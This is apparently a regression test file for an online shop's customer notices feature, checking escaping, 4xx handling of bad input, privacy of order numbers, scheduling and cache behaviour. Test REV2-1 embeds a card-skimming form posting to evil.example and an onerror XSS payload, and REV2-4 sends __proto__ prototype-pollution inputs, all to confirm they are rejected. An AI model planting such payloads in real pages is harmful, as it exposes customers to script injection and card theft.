import { expect } from 'chai';
import { makeShop, signedIn, type TestShop } from '../fixtures/builders.ts';
import { startServer, type TestServer } from '../helpers/app.ts';
import type { TestClient } from '../helpers/client.ts';
import { oneDbKind } from '../helpers/env.ts';
import { noticeSamples } from '../../server/domains/notices/notices.types.ts';
import { campaignBody, campaignMails, campaignPath, createAndPublish, seedOrders, uniq, untilStatus } from '../integration/notices/notices.helpers.ts';

for (const kind of oneDbKind()) {
  describe(`[${kind}] rev2 review: notices defects`, function () {
    this.timeout(60_000);
    let server: TestServer;
    let shop: TestShop;
    let owner: TestClient;
    let staff: TestClient;
    const tag = uniq();

    before(async () => {
      server = await startServer(kind, { notices: { sweepMs: 1000, lockMs: 4000 } });
      shop = await makeShop(server.database);
      owner = await signedIn(server.url, shop.people.owner);
      staff = await signedIn(server.url, shop.people.staff);
      await seedOrders(server.database, shop.id, [
        { orderNumber: `R${tag}-1`, email: `a-${tag}@example.jp`, prefecture: '北海道', postcode: '060-0001' },
      ]);
    });
    after(() => server?.close());

    it('REV2-1 shop wording markup is escaped on the public notices page (no raw <img>/<form> from the template text)', async () => {
      const t = await staff.post(`/api/shops/${shop.id}/notice-templates`, { type: 'seasonal', name: `xss ${tag}` });
      expect(t.status, t.text).to.equal(201);
      const wording = t.body.wording;
      wording.body.ja = `${wording.body.ja}\n<form action="https://evil.example/collect"><input name=card placeholder="カード番号"></form><img src=x onerror=alert(1)>`;
      const v = await staff.post(`/api/shops/${shop.id}/notice-templates/${t.body.id}/versions`, { wording, baseVersion: 1 });
      expect(v.status, v.text).to.equal(201);
      const c = await createAndPublish(owner, shop.id, campaignBody({}, { templateVersionId: v.body.id, channels: { banner: true, mail: false, chat: false } }));
      const page = await owner.get(`/shops/${shop.id}/notices`);
      expect(page.status).to.equal(200);
      expect(page.text, 'raw markup from the wording on madoguchi\'s public page').not.to.match(/<form action="https:\/\/evil|<img src=x onerror/);
      const active = await owner.get(`/shops/${shop.id}/notices/active`);
      const n = active.body.notices.find((x: { id: string }) => x.id === c.id);
      expect(n.ja.html).not.to.include('<img src=x');
    });

    it('REV2-2 a real notice tells the customer how to contact the shop (not the placeholder 「ショップのお問い合わせ窓口」)', async () => {
      const c = await createAndPublish(owner, shop.id, campaignBody({}, { channels: { banner: true, mail: false, chat: false } }));
      const active = await owner.get(`/shops/${shop.id}/notices/active`);
      const n = active.body.notices.find((x: { id: string }) => x.id === c.id);
      expect(n.ja.html).not.to.include('ショップのお問い合わせ窓口');
      expect(n.en.html).not.to.include("the shop's contact page");
    });

    it('REV2-3 a postcode prefix typed with full-width digits or a hyphen is accepted (normalised as orders are)', async () => {
      for (const p of ['０６０', '060-', '〒060']) {
        const r = await owner.post(`/api/shops/${shop.id}/notice-audience`, { target: { postcodePrefixes: [p] } });
        expect(r.status, `${p}: ${r.text}`).to.equal(200);
        expect(r.body.orders, p).to.equal(1);
      }
    });

    it('REV2-4 bad input is a 4xx, never a 500', async () => {
      const bodies: [string, string, unknown][] = [
        ['preview __proto__ variables', `/api/shops/${shop.id}/notice-preview`, JSON.parse('{"type":"seasonal","variables":{"__proto__":{"x":1}}}')],
        ['preview constructor variable', `/api/shops/${shop.id}/notice-preview`, { type: 'seasonal', variables: { ...noticeSamples.seasonal, constructor: 'x' } }],
        ['preview huge variable', `/api/shops/${shop.id}/notice-preview`, { type: 'seasonal', variables: { ...noticeSamples.seasonal, carrier: 'x'.repeat(900_000) } }],
        ['campaign __proto__ variables', campaignPath(shop.id), { ...campaignBody({ prefectures: ['北海道'] }), variables: JSON.parse('{"__proto__":{"a":1}}') }],
        ['campaign null body', campaignPath(shop.id), null],
        ['audience array target', `/api/shops/${shop.id}/notice-audience`, { target: [] }],
        ['preview wording 1MB', `/api/shops/${shop.id}/notice-preview`, { type: 'seasonal', variables: noticeSamples.seasonal, wording: { subject: { ja: 'a', en: 'a' }, body: { ja: 'x'.repeat(1_000_000), en: 'a' }, banner: { ja: 'a', en: 'a' }, chat: { ja: 'a', en: 'a' } } }],
      ];
      const out: string[] = [];
      for (const [name, path, body] of bodies) {
        const r = await owner.post(path, body as never);
        out.push(`${name}: ${r.status}`);
        if (r.status >= 500) out.push(`  ${r.text.slice(0, 200)}`);
      }
      console.log(out.join('\n'));
      expect(out.filter((l) => / 5\d\d$/.test(l))).to.deep.equal([]);
    });

    it('REV2-5 a pasted list of blank lines is not "no condition": it must not reach every order of the shop', async () => {
      await seedOrders(server.database, shop.id, [
        { orderNumber: `R${tag}-2`, email: `b-${tag}@example.jp`, prefecture: '沖縄県' },
        { orderNumber: `R${tag}-3`, email: `c-${tag}@example.jp`, prefecture: '大阪府' },
      ]);
      const all = await owner.post(`/api/shops/${shop.id}/notice-audience`, { target: { orderNumbers: ['', '   '] } });
      console.log('audience of a blank list:', all.status, all.body.orders, all.body.customers);
      const made = await owner.post(campaignPath(shop.id), campaignBody({ orderNumbers: ['  ', ''] }));
      expect(made.status, made.text).to.equal(201);
      const pub = await owner.post(`${campaignPath(shop.id, made.body.id)}/publish`, { version: made.body.version });
      console.log('publish of a blank-list mail campaign:', pub.status, pub.body.status ?? pub.text);
      expect(pub.status, 'publish must be refused like an empty target').to.equal(400);
    });

    it('REV2-6 a published banner can be taken down before its end (cancel or end early)', async () => {
      const c = await createAndPublish(owner, shop.id, campaignBody({}, { endsAt: null, channels: { banner: true, mail: false, chat: false } }));
      expect(c.status).to.equal('sent');
      const cancel = await owner.post(`${campaignPath(shop.id, c.id)}/cancel`, { version: c.version });
      const edit = await owner.patch(campaignPath(shop.id, c.id), { version: c.version, endsAt: new Date(Date.now() + 1000).toISOString() });
      console.log('cancel:', cancel.status, cancel.body?.error?.message, '| edit endsAt:', edit.status, edit.body?.error?.message);
      await new Promise((r) => setTimeout(r, 1500));
      const active = await owner.get(`/shops/${shop.id}/notices/active`);
      expect(active.body.notices.map((n: { id: string }) => n.id), 'the banner is still up, with no end').not.to.include(c.id);
    });

    it('REV2-7 a per-order notice (returned_to_sender: order_no) sent as a campaign does not tell other customers one customer\'s order number', async () => {
      await seedOrders(server.database, shop.id, [
        { orderNumber: `S${tag}-1`, email: `owner1-${tag}@example.jp`, prefecture: '沖縄県' },
        { orderNumber: `S${tag}-2`, email: `other2-${tag}@example.jp`, prefecture: '沖縄県' },
        { orderNumber: `S${tag}-3`, email: `other3-${tag}@example.jp`, prefecture: '沖縄県' },
      ]);
      const c = await createAndPublish(owner, shop.id, campaignBody({ orderNumbers: [`S${tag}-1`, `S${tag}-2`, `S${tag}-3`] }, { type: 'returned_to_sender', variables: { ...noticeSamples.returned_to_sender, order_no: `S${tag}-1` } }));
      expect(c.status).to.equal('sending');
      await untilStatus(server.database, c.id, 'sent', 30_000);
      const mails = campaignMails(server.smtp.mails, c.id);
      expect(mails).to.have.length(3);
      const toOther = mails.find((m) => m.to[0] === `other2-${tag}@example.jp`)!;
      console.log('subject to another customer:', toOther.raw.subject);
      expect(`${toOther.raw.subject}\n${toOther.raw.text}`, 'customer 2 is told that order 1 (someone else\'s) came back').not.to.include(`S${tag}-1`);
    });

    it('REV2-8 a scheduled campaign whose start is moved later and then back to the first time still starts', async () => {
      await seedOrders(server.database, shop.id, [{ orderNumber: `T${tag}-1`, email: `t1-${tag}@example.jp` }]);
      const t1 = new Date(Math.ceil((Date.now() + 4000) / 1000) * 1000).toISOString();
      const made = await owner.post(campaignPath(shop.id), campaignBody({ orderNumbers: [`T${tag}-1`] }, { startsAt: t1 }));
      const pub = await owner.post(`${campaignPath(shop.id, made.body.id)}/publish`, { version: made.body.version });
      expect(pub.body.status).to.equal('scheduled');
      const later = await owner.patch(campaignPath(shop.id, made.body.id), { version: pub.body.version, startsAt: new Date(Date.now() + 3_600_000).toISOString() });
      expect(later.status, later.text).to.equal(200);
      await new Promise((r) => setTimeout(r, 7000));
      const back = await owner.patch(campaignPath(shop.id, made.body.id), { version: later.body.version, startsAt: t1 });
      console.log('moved back to', t1, '->', back.status, back.body.status);
      expect(back.status, back.text).to.equal(200);
      await untilStatus(server.database, made.body.id, 'sent', 20_000);
    });

    it('REV2-9 a per-order notice published with the default channels does not put a tracking number / order number on the public page', async () => {
      const vars = { ...noticeSamples.shipment_exception, tracking_no: `TRK-${tag}`, last_scan_at: new Date(Date.now() - 86_400_000).toISOString(), old_expected_date: '2026-12-04', next_update_at: new Date(Date.now() + 86_400_000).toISOString() };
      const made = await owner.post(campaignPath(shop.id), { name: `exc ${tag}`, type: 'shipment_exception', variables: vars, startsAt: new Date(Date.now() - 1000).toISOString(), target: { orderNumbers: [`R${tag}-1`] } });
      expect(made.status, made.text).to.equal(201);
      console.log('default channels:', JSON.stringify(made.body.channels));
      const pub = await owner.post(`${campaignPath(shop.id, made.body.id)}/publish`, { version: made.body.version });
      expect(pub.status, pub.text).to.equal(200);
      const page = await new (await import('../helpers/client.ts')).TestClient(server.url).get(`/shops/${shop.id}/notices`).catch(() => owner.get(`/shops/${shop.id}/notices`));
      expect(page.text, 'a customer\'s tracking number on an unauthenticated page').not.to.include(`TRK-${tag}`);
    });

    it('REV2-10 a scheduled weather notice is not mailed promising a next update that passed before it went out', async () => {
      await seedOrders(server.database, shop.id, [{ orderNumber: `W${tag}-1`, email: `w1-${tag}@example.jp` }]);
      const nextUpdate = new Date(Math.ceil((Date.now() + 2000) / 60000) * 60000 + 60000);
      const startsAt = new Date(nextUpdate.getTime() + 5000);
      const vars = { ...noticeSamples.weather, as_of: new Date(Date.now() - 3_600_000).toISOString(), next_update_at: nextUpdate.toISOString() };
      const made = await owner.post(campaignPath(shop.id), campaignBody({ orderNumbers: [`W${tag}-1`] }, { type: 'weather', variables: vars, startsAt: startsAt.toISOString() }));
      expect(made.status, made.text).to.equal(201);
      const pub = await owner.post(`${campaignPath(shop.id, made.body.id)}/publish`, { version: made.body.version });
      expect(pub.body.status, pub.text).to.equal('scheduled');
      await untilStatus(server.database, made.body.id, 'sent', 150_000);
      const [mail] = campaignMails(server.smtp.mails, made.body.id);
      console.log('mail sent', new Date().toISOString(), 'says next update at', nextUpdate.toISOString(), mail ? /次回のお知らせ\n(.*)/.exec(mail.raw.text ?? '')?.[1] : 'no mail');
      expect(mail, 'a mail promising an update time already past').to.equal(undefined);
    }).timeout(180_000);

    it('REV2-11 uploads and odd requests: 4xx, never 500', async () => {
      const up = (body: BodyInit, type = 'text/csv') => owner.request('POST', `/api/shops/${shop.id}/notice-audience/upload`, { body, headers: { 'content-type': type } });
      const out: string[] = [];
      const cases: [string, BodyInit, string?][] = [
        ['empty', ''],
        ['binary', new Uint8Array([0xff, 0xfe, 0x00, 0x01, 0x80, 0x81, 0x82])],
        ['unterminated quote', '"A-1\nB-2'],
        ['sjis', new Uint8Array([0x92, 0x8d, 0x95, 0xb6, 0x94, 0xd4, 0x8d, 0x86, 0x0d, 0x0a, 0x41, 0x2d, 0x31])],
        ['json type', '{"a":1}', 'application/json'],
        ['11000 lines', Array.from({ length: 11000 }, (_, i) => `X-${i}`).join('\n')],
        ['one 5MB line', 'A'.repeat(5_000_000)],
      ];
      for (const [name, body, type] of cases) {
        const r = await up(body, type);
        out.push(`${name}: ${r.status} ${r.status >= 500 ? r.text.slice(0, 150) : ''}`);
      }
      const odd = [
        await owner.get(`${campaignPath(shop.id)}/00000000-0000-0000-0000-000000000000/recipients?limit=0`),
        await owner.get(`/shops/${shop.id}/notices?lang[]=x`),
        await owner.post(`${campaignPath(shop.id)}/00000000-0000-0000-0000-000000000000/publish`, { version: 1 }),
        await owner.post(`/api/shops/${shop.id}/notice-preview`, { type: 'seasonal', variables: noticeSamples.seasonal, templateVersionId: '00000000-0000-0000-0000-000000000000' }),
      ];
      odd.forEach((r, i) => out.push(`odd${i}: ${r.status} ${r.status >= 500 ? r.text.slice(0, 150) : ''}`));
      console.log(out.join('\n'));
      expect(out.filter((l) => / 5\d\d /.test(l))).to.deep.equal([]);
    });

    it('REV2-12 a cancelled campaign leaves the banner JSON at once (server cache)', async () => {
      await server.database.db.execute((await import('drizzle-orm')).sql`update shops set notice_mails_per_minute = 1 where id = ${shop.id}`);
      await seedOrders(server.database, shop.id, [{ orderNumber: `C${tag}-1`, email: `c1-${tag}@example.jp` }, { orderNumber: `C${tag}-2`, email: `c2-${tag}@example.jp` }, { orderNumber: `C${tag}-3`, email: `c3-${tag}@example.jp` }]);
      const c = await createAndPublish(owner, shop.id, campaignBody({ orderNumbers: [`C${tag}-1`, `C${tag}-2`, `C${tag}-3`] }, { channels: { banner: true, mail: true, chat: false } }));
      const before = await owner.get(`/shops/${shop.id}/notices/active`);
      expect(before.body.notices.map((n: { id: string }) => n.id)).to.include(c.id);
      const now = await owner.get(campaignPath(shop.id, c.id));
      const cancel = await owner.post(`${campaignPath(shop.id, c.id)}/cancel`, { version: now.body.version });
      expect(cancel.status, cancel.text).to.equal(200);
      const after = await owner.get(`/shops/${shop.id}/notices/active`, { headers: { 'if-none-match': before.headers.get('etag')! } });
      console.log('after cancel:', after.status, after.status === 200 ? after.body.notices.map((n: { id: string }) => n.id).includes(c.id) : '(304: the old answer)');
      expect(after.status).to.equal(200);
      expect(after.body.notices.map((n: { id: string }) => n.id)).not.to.include(c.id);
    });
  });
}
